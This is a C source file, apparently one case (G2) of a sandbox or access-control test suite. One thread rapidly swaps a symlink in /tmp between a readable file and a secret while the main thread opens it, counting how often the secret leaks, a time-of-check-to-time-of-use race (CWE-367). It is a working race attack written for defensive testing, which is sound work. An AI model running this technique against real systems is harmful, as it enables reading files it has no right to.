// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. One thread points a symbolic link at a file it may read and at a secret in turn, the other opens
 * it, in the hope that one is checked and the other opened. Source: symlink races, CWE-367. Control:
 * the secret is read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"

enum { TRIES = 300 };

static const char link_name[] = "/tmp/lab-swapped";
static volatile bool over;

static void *swap(void *unused)
{
	const char *targets[2] = { PASSWD, SHM_SECRET };

	for (int i = 0; !over; i++) {
		unlink("/tmp/lab-swapped.new");
		if (symlink(targets[i & 1], "/tmp/lab-swapped.new") ||
		    rename("/tmp/lab-swapped.new", link_name))
			broken("cannot swap the link");
		sched_yield();
	}
	return unused;
}

void attack(void)
{
	pthread_t swapper;
	int fd, wins = 0;

	stage("files");
	if (pthread_create(&swapper, NULL, swap, NULL))
		broken("thread");
	for (int i = 0; i < TRIES; i++) {
		sched_yield();
		fd = open(link_name, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		wins += descriptor_holds(fd, STAGE_SECRET);
		close(fd);
	}
	over = true;
	pthread_join(swapper, NULL);
	judge(wins);
}
